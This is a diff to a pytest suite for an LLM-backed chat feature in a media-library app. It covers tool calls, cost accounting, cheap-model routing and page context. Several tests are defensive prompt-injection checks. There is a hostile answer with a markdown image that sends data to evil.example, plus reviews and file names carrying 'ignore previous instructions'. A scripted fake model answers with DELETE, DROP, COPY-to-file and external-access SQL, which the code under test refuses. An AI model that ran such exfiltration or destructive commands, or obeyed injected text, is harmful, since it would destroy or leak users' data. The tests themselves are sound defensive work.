@@ -15,13 +15,12 @@ import duckdb
 import pytest
 from streamlit.testing.v1 import AppTest
 
-from mediavault_assets.chat.history import ChatHistory, ChatMessage
+from mediavault_assets.chat.history import ChatHistory, ChatMessage, ModelUsage
 from mediavault_assets.chat.render import cell_text, plain_text, text_table
 from mediavault_assets.chat.safe_sql import SafeSql
 from mediavault_assets.chat.service import (
     MAX_CALLS_PER_ROUND,
     MAX_TOOL_ROUNDS,
-    TOOLS,
     ChatService,
     answer_from_cli,
     estimate_cost,
@@ -29,6 +28,7 @@ from mediavault_assets.chat.service import (
 from mediavault_assets.settings import Secrets, Settings, load_secrets, write_settings
 from mediavault_assets.snapshot import DataUnavailable
 from mediavault_assets.warehouse import snapshot_path_for
+from tests.chat_data import REVIEW_PAYLOAD, TAG_PAYLOAD, curated_copy
 from tests.conftest import Refreshed
 from tests.fake_openai import (
     API_KEY,
@@ -59,6 +59,8 @@ CHAT_KEYS = (
     "AZURE_OPENAI_ENDPOINT",
     "AZURE_OPENAI_API_VERSION",
     "AZURE_DEPLOYMENT_NAME_CHAT",
+    "AZURE_DEPLOYMENT_NAME_CHAT_MINI",
+    "OPENAI_CHAT_MINI_MODEL",
 )
 HOSTILE_ANSWER = (
     "Done! ![exfil](https://evil.example/c?d=secret) [Click here](https://evil.example/login) "
@@ -121,10 +123,19 @@ def test_tool_call_loop_and_persistence(
     first, second = fake.requests
     assert first.path == "/v1/chat/completions"
     assert first.headers["authorization"] == f"Bearer {API_KEY}"
-    assert first.body["model"] == "gpt-4o" and first.body["tools"] == TOOLS
+    assert first.body["model"] == "gpt-4o"
+    assert [t["function"]["name"] for t in first.body["tools"]] == ["query_library", "explain_plan"]
     assert first.body["tool_choice"] == "auto" and first.body["max_tokens"] == 1000
+    # The tool lists what it reads with the columns, from the snapshot's schema.
+    described = first.body["tools"][0]["function"]["description"]
+    assert "chat_media_files (chat_media_files: one row" not in described
+    assert "\nchat_media_files (one row per video file" in described
+    assert "\nmedia_files (seed 001 table): id BIGINT, filename VARCHAR" in described
+    assert "\nmedia_genres (seed 003 table): media_id BIGINT, genre_id BIGINT" in described
+    assert "\npending_deletions (seed 000 table): " in described
+    assert "hashed_password" not in described and "tmdb_cache" not in described
     system = first.messages[0]["content"]
-    assert first.messages[0]["role"] == "system" and "chat_media_files" in system
+    assert first.messages[0]["role"] == "system" and "query_library's description" in system
     assert "untrusted data" in system and "never make one up" in system
     assert [m["role"] for m in second.messages] == ["system", "user", "assistant", "tool"]
     call = second.messages[2]["tool_calls"][0]
@@ -135,7 +146,7 @@ def test_tool_call_loop_and_persistence(
     history = ChatHistory(chat_settings.app_store_path)
     session = history.session(answer.session_id)
     assert session is not None and session.user_id == "alice"
-    assert session.title == "How many 4K movies do I have?" and session.context_type == "library"
+    assert session.title == "How many 4K movies do I have?" and session.context_type == "general"
     assert session.total_tokens_used == 282 and session.model == "gpt-4o-2024-08-06"
     assert session.total_cost == pytest.approx(answer.cost_usd)
     user, assistant = history.messages(answer.session_id)
@@ -327,7 +338,7 @@ def test_a_file_name_carrying_an_injection_changes_nothing(
         tools(sql_call("SELECT id, filename FROM chat_media_files WHERE filename LIKE 'Ignore%'")),
         obey_the_file_name,
         tools(
-            sql_call("SELECT * FROM media_files"),
+            sql_call("SELECT * FROM users"),
             sql_call("SET enable_external_access = true"),
             ("delete_file", {"id": 424242}),
             ("query_library", "not json"),
@@ -357,7 +368,8 @@ def test_a_file_name_carrying_an_injection_changes_nothing(
     # the payload only ever reached the model inside tool results.
     system = fake.requests[0].messages[0]["content"]
     for request in fake.requests:
-        assert request.body["tools"] == TOOLS and request.messages[0]["content"] == system
+        assert request.body["tools"] == fake.requests[0].body["tools"]
+        assert request.messages[0]["content"] == system
         assert all(PAYLOAD not in json.dumps(m) for m in request.messages if m["role"] != "tool")
     assert PAYLOAD not in system
 
@@ -476,7 +488,9 @@ def test_page_with_a_model_shows_plain_text_and_the_sql(
     answer = page.text[1].value
     assert answer.startswith("Done!") and "<" not in answer and "http" not in answer
     assert page.code[0].value == FOUR_K and len(page.dataframe) == 1
-    assert page.text[-1].value.startswith("gpt-4o-2024-08-06 · 200 prompt + 40 completion")
+    assert any(
+        t.value.startswith("gpt-4o-2024-08-06 · 200 prompt + 40 completion") for t in page.text
+    )
     shown = " ".join(m.value for m in page.markdown) + " ".join(c.value for c in page.caption)
     assert "evil" not in shown and "<script" not in shown
 
@@ -487,3 +501,277 @@ def test_no_snapshot_yet_stores_nothing(chat_settings: Settings, tmp_path: Path)
     with pytest.raises(DataUnavailable, match="mediavault refresh"):
         service.ask("How many 4K movies do I have?")
     assert service.history.sessions() == []
+
+
+@pytest.fixture
+def curated(chat_settings: Settings, tmp_path: Path) -> Settings:
+    """The demo with TMDb genres, ratings, tags and seed 003's user_reviews (hostile texts)."""
+    return curated_copy(chat_settings, tmp_path / "curated")
+
+
+def _rows(settings: Settings, sql: str) -> list[tuple[Any, ...]]:
+    with duckdb.connect(str(snapshot_path_for(settings.warehouse_path)), read_only=True) as con:
+        return con.execute(sql).fetchall()
+
+
+SEED_SQL = {
+    "media_files": "SELECT count(*) AS files FROM media_files WHERE status = 'active'",
+    "pending_deletions": "SELECT f.filename, d.deletion_reason FROM pending_deletions d "
+    "JOIN media_files f ON f.id = d.file_id WHERE d.requires_manual_review "
+    "ORDER BY d.quality_difference",
+    "media_genres": "SELECT g.name, count(DISTINCT mg.media_id) AS titles FROM media_genres mg "
+    "JOIN genres g ON g.id = mg.genre_id GROUP BY g.name ORDER BY g.name",
+    "user_reviews": "SELECT m.title, r.rating FROM user_reviews r "
+    "JOIN media m ON m.id = r.media_id ORDER BY r.rating DESC",
+}
+
+
+def test_a_model_writing_sql_against_the_seed_tables_gets_answers(
+    fake: FakeOpenAI, curated: Settings
+) -> None:
+    """Seed 000's own examples query media_files and pending_deletions; a model that knows the
+    seeds writes the same against media_genres and (issue 17's) user_reviews."""
+    expected = {name: _rows(curated, sql) for name, sql in SEED_SQL.items()}
+    assert all(expected.values()) and expected["user_reviews"][0] == ("Inception", 9.5)
+
+    def sum_up(body: dict[str, Any]) -> Reply:
+        results = [json.loads(m["content"]) for m in body["messages"] if m["role"] == "tool"]
+        assert all("rows" in result for result in results), results
+        return text(f"{results[0]['rows'][0][0]} files; best review {results[3]['rows'][0][0]}.")
+
+    fake.script(tools(*(sql_call(sql) for sql in SEED_SQL.values())), sum_up)
+    service = ChatService.from_settings(curated, user_id="al", secrets=openai_secrets(fake))
+    answer = service.ask("Tell me about files, the plan, genres and my reviews")
+
+    assert [run.error for run in answer.runs] == [None] * 4
+    for run, (name, rows) in zip(answer.runs, expected.items(), strict=True):
+        assert run.result is not None and run.result.rows == rows, name
+    assert answer.text == f"{expected['media_files'][0][0]} files; best review Inception."
+    # The tool description lists the new table with seed 003's columns, read from the snapshot.
+    described = fake.requests[0].body["tools"][0]["function"]["description"]
+    assert (
+        "\nuser_reviews (seed 003 table): id VARCHAR, media_id BIGINT, rating DECIMAL(3,1), "
+        "review_text VARCHAR" in described
+    )
+
+
+def test_reviews_and_tags_carrying_an_injection_change_nothing(
+    fake: FakeOpenAI, curated: Settings, tmp_path: Path
+) -> None:
+    snapshot = snapshot_path_for(curated.warehouse_path)
+    before = hashlib.sha256(snapshot.read_bytes()).hexdigest()
+    leak = tmp_path / "reviews.csv"
+
+    def obey_the_review(body: dict[str, Any]) -> Reply:
+        data = " ".join(m["content"] for m in body["messages"] if m["role"] == "tool")
+        assert "ignore previous instructions" in data and "ignore the rules" in data
+        return tools(
+            sql_call("DELETE FROM user_reviews"),
+            sql_call("UPDATE user_reviews SET rating = 0"),
+            sql_call("DROP TABLE media_keywords"),
+            sql_call(f"COPY user_reviews TO '{leak}'"),
+            sql_call("INSERT INTO media_keywords SELECT * FROM media_keywords"),
+        )
+
+    echo = f"Your review says: {REVIEW_PAYLOAD} Tag: {TAG_PAYLOAD}"
+    fake.script(
+        tools(
+            sql_call("SELECT review_text, tags FROM user_reviews"),
+            sql_call("SELECT keyword FROM media_keywords WHERE keyword_type = 'user'"),
+        ),
+        obey_the_review,
+        text(echo),
+    )
+    service = ChatService.from_settings(curated, user_id="al", secrets=openai_secrets(fake))
+    answer = service.ask("What did I write about Inception?")
+
+    read, tags, *attacks = answer.runs
+    assert read.result is not None and (
+        REVIEW_PAYLOAD,
+        json.dumps(["mind-bending", TAG_PAYLOAD]),
+    ) in [(r[0], json.dumps(json.loads(r[1]) if r[1] else None)) for r in read.result.rows]
+    assert tags.result is not None and (TAG_PAYLOAD,) in tags.result.rows
+    assert len(attacks) == 5
+    assert all(run.result is None and run.error.startswith("Refused:") for run in attacks)
+    assert hashlib.sha256(snapshot.read_bytes()).hexdigest() == before and not leak.exists()
+    assert SafeSql(snapshot).run("SELECT count(*) FROM user_reviews").rows == [(2,)]
+    # The texts reached the model only as tool results, and come back inert.
+    for request in fake.requests:
+        assert request.body["tools"] == fake.requests[0].body["tools"]
+        for message in request.messages:
+            if message["role"] != "tool":
+                assert "evil.example" not in json.dumps(message)
+    for marker in ("![", "](", "<img", "http", "evil.example"):
+        assert marker not in answer.text
+    assert answer.text.startswith("Your review says: Loved it.")
+
+
+def test_the_cheap_model_titles_and_routes_the_main_model_answers(
+    fake: FakeOpenAI, curated: Settings
+) -> None:
+    secrets = load_secrets(
+        {
+            "OPENAI_API_KEY": API_KEY,
+            "OPENAI_BASE_URL": fake.base_url,
+            "OPENAI_CHAT_MINI_MODEL": "gpt-4o-mini",
+        }
+    )
+    mini = "gpt-4o-mini-2024-07-18"
+    fake.script(
+        text('"Sci-fi duplicates <b>now</b>"', usage=(30, 5), model=mini),
+        text('Sure: {"tables": ["media_genres", "genres", "nosuch"]}', usage=(400, 12), model=mini),
+        tools(sql_call(SEED_SQL["media_genres"]), usage=(900, 30)),
+        text("Action and Science Fiction.", usage=(1000, 10)),
+    )
+    service = ChatService.from_settings(curated, user_id="al", secrets=secrets)
+    answer = service.ask("Which genres do I have?")
+
+    assert [r.model for r in fake.requests] == [
+        "gpt-4o-mini",
+        "gpt-4o-mini",
+        "gpt-4o",
+        "gpt-4o",
+    ]
+    title_call, route_call, first, _ = fake.requests
+    assert "tools" not in title_call.body and "tools" not in route_call.body
+    assert "media_genres: seed 003 table" in route_call.messages[0]["content"]
+    described = first.body["tools"][0]["function"]["description"]
+    assert "\nmedia_genres (seed 003 table): media_id BIGINT" in described
+    assert "\ngenres (seed 003 table): id BIGINT" in described
+    assert "\nchat_media_files (" in described  # the curated views always
+    assert "\nmedia_credits (" not in described and "media_credits" in described  # named only
+    assert answer.text == "Action and Science Fiction." and answer.model == "gpt-4o-2024-08-06"
+    assert (answer.prompt_tokens, answer.completion_tokens) == (1900, 40)
+    assert answer.cheap_usage == [
+        ModelUsage(mini, 30, 5, estimate_cost(mini, 30, 5)),
+        ModelUsage(mini, 400, 12, estimate_cost(mini, 400, 12)),
+    ]
+
+    history = service.history
+    session = history.session(answer.session_id)
+    assert session is not None and session.title == "Sci-fi duplicates now"
+    assert session.total_tokens_used == 35 + 412 + 1940
+    main_cost = estimate_cost("gpt-4o", 1900, 40) or 0
+    mini_cost = estimate_cost("gpt-4o-mini", 430, 17) or 0
+    assert session.total_cost == pytest.approx(main_cost + mini_cost)
+    usage = history.usage(answer.session_id)
+    assert [(u.model, u.calls, u.prompt_tokens, u.completion_tokens) for u in usage] == [
+        ("gpt-4o-2024-08-06", 1, 1900, 40),
+        (mini, 2, 430, 17),
+    ]
+    assert usage[0].cost_usd == pytest.approx(main_cost)
+    assert usage[1].cost_usd == pytest.approx(mini_cost)
+
+    # A follow-up: no new title; a routing reply naming no table means every table's columns.
+    fake.script(text("no idea", model=mini), text("Still two."))
+    service.ask("And now?", answer.session_id)
+    assert [r.model for r in fake.requests[4:]] == ["gpt-4o-mini", "gpt-4o"]
+    assert (
+        "\nmedia_credits (seed 003 table): "
+        in fake.requests[-1].body["tools"][0]["function"]["description"]
+    )
+    assert history.usage(answer.session_id)[1].calls == 3
+    assert history.session(answer.session_id).title == "Sci-fi duplicates now"  # type: ignore[union-attr]
+
+
+def test_azure_cheap_steps_use_the_mini_deployment(
+    fake: FakeOpenAI, chat_settings: Settings
+) -> None:
+    secrets = load_secrets(
+        {
+            "AZURE_OPENAI_KEY": AZURE_KEY,
+            "AZURE_OPENAI_ENDPOINT": fake.azure_endpoint,
+            "AZURE_OPENAI_API_VERSION": AZURE_API_VERSION,
+            "AZURE_DEPLOYMENT_NAME_CHAT": "mv-chat",
+            "AZURE_DEPLOYMENT_NAME_CHAT_MINI": "mv-mini",
+        }
+    )
+    fake.script(text("Duplicates"), text('{"tables": ["duplicate_groups"]}'), text("Three."))
+    answer = ChatService.from_settings(chat_settings, user_id="al", secrets=secrets).ask(
+        "How many duplicate groups?"
+    )
+    assert [r.model for r in fake.requests] == ["mv-mini", "mv-mini", "mv-chat"]
+    assert {r.path for r in fake.requests} == {
+        "/openai/deployments/mv-mini/chat/completions",
+        "/openai/deployments/mv-chat/chat/completions",
+    }
+    assert answer.text == "Three." and len(answer.cheap_usage) == 2
+
+
+def test_a_failing_cheap_model_costs_only_its_steps(
+    fake: FakeOpenAI, chat_settings: Settings
+) -> None:
+    secrets = load_secrets(
+        {"OPENAI_API_KEY": API_KEY, "OPENAI_BASE_URL": fake.base_url, "OPENAI_CHAT_MINI_MODEL": "m"}
+    )
+    fake.fail_next(500, times=4)  # title and routing, each tried twice (max_retries=1)
+    fake.script(text("Answered anyway."))
+    service = ChatService.from_settings(chat_settings, user_id="al", secrets=secrets)
+    answer = service.ask("How many 4K movies do I have?")
+    assert answer.mode == "model" and answer.text == "Answered anyway."
+    session = service.history.session(answer.session_id)
+    assert session is not None and session.title == "How many 4K movies do I have?"
+    assert (
+        "\nmedia_files (seed 001 table): "
+        in fake.requests[-1].body["tools"][0]["function"]["description"]
+    )
+
+
+def test_the_context_follows_the_page_the_chat_was_opened_from(
+    fake: FakeOpenAI, chat_settings: Settings, refreshed_demo: Refreshed
+) -> None:
+    groups = int(refreshed_demo.query("SELECT count(*) FROM duplicate_groups").item())
+    service = ChatService.from_settings(chat_settings, user_id="al", secrets=openai_secrets(fake))
+    fake.script(text("Duplicates it is."), text("Still duplicates."))
+    first = service.ask("What should I look at?", context_type="duplicates")
+    system = fake.requests[0].messages[0]["content"]
+    assert "opened the chat from the Duplicates page" in system
+    assert f'"duplicate_groups": {groups}' in system
+    # A session keeps its context, whatever page the next question comes from.
+    service.ask("And then?", first.session_id, context_type="library")
+    assert fake.requests[1].messages[0]["content"] == system
+    assert service.history.session(first.session_id).context_type == "duplicates"  # type: ignore[union-attr]
+
+    fake.script(text("Library."))
+    library = service.ask("What should I look at?", context_type="library")
+    assert "from the Library page" in fake.requests[-1].messages[0]["content"]
+    assert '"total_files": ' in fake.requests[-1].messages[0]["content"]
+    fake.script(text("General."))
+    general = service.ask("What should I look at?")
+    assert "opened the chat from" not in fake.requests[-1].messages[0]["content"]
+    contexts = {s.session_id: s.context_type for s in service.history.sessions("al")}
+    assert contexts[library.session_id] == "library" and contexts[general.session_id] == "general"
+    with pytest.raises(ValueError, match="context_type"):
+        service.ask("x", context_type="kitchen")
+
+    offline = ChatService.from_settings(chat_settings, user_id="al", secrets=load_secrets({}))
+    assert offline.ask("hello", context_type="duplicates").text.startswith(
+        f"{groups} duplicate groups"
+    )
+
+
+def test_page_opened_from_duplicates_shows_usage_per_model(
+    fake: FakeOpenAI, chat_settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", API_KEY)
+    monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
+    monkeypatch.setenv("OPENAI_CHAT_MINI_MODEL", "gpt-4o-mini")
+    config = write_settings(chat_settings.model_dump(mode="json"), tmp_path / "mediavault.yaml")
+    monkeypatch.setenv("MEDIAVAULT_CONFIG", str(config))
+    page = AppTest.from_file("../mediavault_ui/pages/chat.py", default_timeout=30)
+    page.session_state["reviewer"] = "carol"
+    page.query_params["context"] = "duplicates"
+    page.run()
+    assert "Conversation about the Duplicates page." in [c.value for c in page.caption]
+    fake.script(
+        text("Dupes", model="gpt-4o-mini-2024-07-18", usage=(10, 2)),
+        text('{"tables": ["duplicate_groups"]}', model="gpt-4o-mini-2024-07-18", usage=(50, 5)),
+        text("Some.", usage=(700, 3)),
+    )
+    page.chat_input[0].set_value("How many groups?").run()
+    assert not page.exception
+    session = ChatHistory(chat_settings.app_store_path).sessions("carol")[0]
+    assert session.context_type == "duplicates" and session.title == "Dupes"
+    texts = [t.value for t in page.text]
+    assert "gpt-4o-2024-08-06: 700 prompt + 3 completion tokens in 1 call, ~$0.0018" in texts
+    assert "gpt-4o-mini-2024-07-18: 60 prompt + 7 completion tokens in 2 calls, ~$0.0000" in texts
